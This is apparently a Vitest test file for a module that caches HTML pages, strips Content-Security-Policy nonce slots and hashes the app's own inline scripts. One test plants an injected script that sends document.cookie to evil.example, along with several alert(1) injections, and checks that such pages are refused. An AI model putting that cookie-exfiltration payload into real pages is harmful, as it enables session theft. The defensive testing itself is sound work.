import { describe, expect, it } from "vitest";
import { appScriptHashes, keptPage, NONCE_SLOT } from "./kept-page";

const sha256 = async (text: string) => {
  const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)));
  return `'sha256-${btoa(String.fromCharCode(...digest))}'`;
};

describe("kept page", () => {
  const html =
    `<!doctype html><html><head><link rel="modulepreload" href="/a.js" nonce="${NONCE_SLOT}"/>` +
    `<script type="application/ld+json" nonce="${NONCE_SLOT}">{"@type":"Product","name":"Größe · 指輪"}</script></head>` +
    `<body><script nonce="${NONCE_SLOT}">window.a = "€";</script><script type="module" nonce="${NONCE_SLOT}">import "/a.js";</script>` +
    `<script src="/b.js" nonce="${NONCE_SLOT}"></script><script nonce="${NONCE_SLOT}">window.a = "€";</script></body></html>`;

  it("drops the nonce slots and names each runnable inline script by its hash, once", async () => {
    const kept = (await keptPage({ html, headers: [["Content-Type", "text/html; charset=utf-8"]], at: 1 }))!;
    const text = new TextDecoder().decode(kept.body);
    expect(text).not.toContain(NONCE_SLOT);
    expect(text).not.toContain("nonce");
    expect(text).toContain('<script>window.a = "€";</script>');
    // JSON-LD is data, not script: CSP never applies to it. External scripts come from 'self'.
    expect(kept.scriptHashes).toEqual([await sha256('window.a = "€";'), await sha256('import "/a.js";')]);
    expect(kept.html).toBe(html);
  });

  it("hashes the script text exactly as it stands between the tags", async () => {
    expect(await appScriptHashes(`<script nonce="${NONCE_SLOT}">\n a&amp;b </script>`)).toEqual([await sha256("\n a&amp;b ")]);
    expect(await appScriptHashes('<script type="text/plain">x</script><script src="/x.js"></script>')).toEqual([]);
  });

  it("refuses a page with an inline script the app did not emit, instead of allowing it by hash", async () => {
    // Say a product description that slipped through escaping: it has no nonce slot.
    const injected = html.replace("<body>", `<body><p>Nice ring</p><script>fetch("//evil.example/?" + document.cookie)</script>`);
    expect(await appScriptHashes(injected)).toBeNull();
    expect(await keptPage({ html: injected, headers: [], at: 1 })).toBeNull();
    for (const attributes of [' type="module"', ' type="text/javascript"', ' nonce="guess"', ` data-nonce="${NONCE_SLOT}"`]) {
      const page = html.replace("<body>", `<body><script${attributes}>alert(1)</script>`);
      expect(await keptPage({ html: page, headers: [], at: 1 }), attributes).toBeNull();
    }
    // Data blocks and external scripts do not run inline: they do not stop a page being kept.
    const data = html.replace("<body>", `<body><script type="application/json">{"a":1}</script>`);
    expect(await keptPage({ html: data, headers: [], at: 1 })).not.toBeNull();
  });
});
